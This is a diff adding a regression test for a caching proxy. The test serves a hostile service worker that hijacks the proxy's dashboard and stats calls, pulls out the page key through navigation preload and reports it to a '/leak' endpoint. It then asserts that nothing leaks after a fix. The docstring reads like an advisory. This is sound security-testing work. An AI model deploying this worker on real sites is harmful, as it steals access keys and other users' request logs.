@@ -7,6 +7,7 @@ import asyncio
 import signal
 
 from aiohttp import web
+from browser import chromium
 from processes import clean_env, start_serve, stop
 from test_review_lifecycle_regressions import _head, _origin
 
@@ -130,3 +131,87 @@ async def test_a_request_line_of_http_2_1_gets_505(origin, proxy):
         answer = await asyncio.wait_for(reader.read(), 5)
         writer.close()
         assert answer.split(b" ", 2)[1] == status, (version, answer[:40])
+
+
+# A proxied site's service worker (scope "/": every page of the proxy's origin on the single
+# listener): it reads the dashboard's answer through navigation preload, and the stats calls
+# of a dashboard it controls (their page key, their answers); it claims open pages too.
+SERVICE_WORKER = b"""
+const leak = (what) => fetch('/leak?' + new URLSearchParams(what));
+self.addEventListener('install', (e) => self.skipWaiting());
+self.addEventListener('activate', (e) => e.waitUntil((async () => {
+  await self.registration.navigationPreload.enable();
+  await self.clients.claim();
+})()));
+self.addEventListener('fetch', (e) => {
+  const url = e.request.url;
+  if (url.includes('/_cacheproxy/dashboard')) {
+    e.respondWith((async () => {
+      const answer = (await e.preloadResponse) || await fetch(e.request);
+      const html = await answer.text();
+      const key = (html.match(/name="cacheproxy-page-key" content="([^"]*)"/) || [])[1] || '';
+      const stats = await fetch('/_cacheproxy/stats', {headers: {'X-Cacheproxy-Page': key}});
+      await leak({how: 'preload', key, status: stats.status});
+      return new Response(html, {headers: {'Content-Type': 'text/html'}});
+    })());
+  } else if (url.includes('/_cacheproxy/stats')) {
+    e.respondWith((async () => {
+      const answer = await fetch(e.request);
+      await leak({how: 'stats', key: e.request.headers.get('X-Cacheproxy-Page') || '',
+                  status: answer.status});
+      return answer;
+    })());
+  }
+});
+"""
+
+REGISTERS = b"""<!doctype html><title>an app's page</title><script>
+navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
+  .then(() => { window.__done = 'registered'; }, (e) => { window.__done = String(e); });
+</script>"""
+
+
+async def test_a_proxied_sites_service_worker_cannot_read_the_stats(origin, proxy):
+    """README, Admin API: `stats` "is answered to a page only when it is the dashboard
+    opened by the user ...; another page of the proxy's origin cannot read the last 50 log
+    lines (other clients' requests)"; "So no web page can purge your cache or read it."
+    On the single listener a proxied page's script can register a service worker for the
+    whole origin (127.0.0.1 and localhost are secure contexts), which stays: the dashboard
+    the user then opens from the address bar is under it. The worker saw each stats call
+    (its `X-Cacheproxy-Page` key, the token's `Authorization`) and its answer, and with
+    navigation preload read the dashboard's own answer, key included, and called stats
+    itself (200). Now the dashboard sends no key or token while a service worker controls
+    it (looked at before each call: a worker claims open pages), and the proxy gives no key
+    to a navigation preload. Severity: medium (the recent requests of every client, from
+    one visit of the operator's browser to one proxied page)."""
+    leaks: list[dict[str, str]] = []
+
+    async def worker(request: web.Request) -> web.Response:
+        return web.Response(body=SERVICE_WORKER, content_type="application/javascript")
+
+    async def page(request: web.Request) -> web.Response:
+        return web.Response(body=REGISTERS, content_type="text/html")
+
+    async def leak(request: web.Request) -> web.Response:
+        leaks.append(dict(request.query))
+        return web.Response(text="ok")
+
+    app = web.Application()
+    app.router.add_get("/sw.js", worker)
+    app.router.add_get("/page", page)
+    app.router.add_get("/leak", leak)
+    c = await proxy(await origin(app))
+    async with chromium() as browser:
+        context = await browser.new_context()
+        opened_before = await context.new_page()  # the dashboard, open before the worker
+        await opened_before.goto(str(c.make_url("/_cacheproxy/dashboard")))
+        await opened_before.get_by_test_id("requests-total").wait_for(timeout=10_000)
+        tab = await context.new_page()
+        await tab.goto(str(c.make_url("/page")))
+        await tab.wait_for_function("window.__done !== undefined", timeout=10_000)
+        assert await tab.evaluate("window.__done") == "registered"
+        dashboard = await context.new_page()  # opened from the address bar, under the worker
+        await dashboard.goto(str(c.make_url("/_cacheproxy/dashboard")))
+        await asyncio.sleep(2.5)  # (the open dashboard polls every 2 s)
+        assert [x for x in leaks if x["status"] == "200" or x["key"]] == [], leaks
+        await dashboard.get_by_test_id("auth-error").wait_for(timeout=5_000)
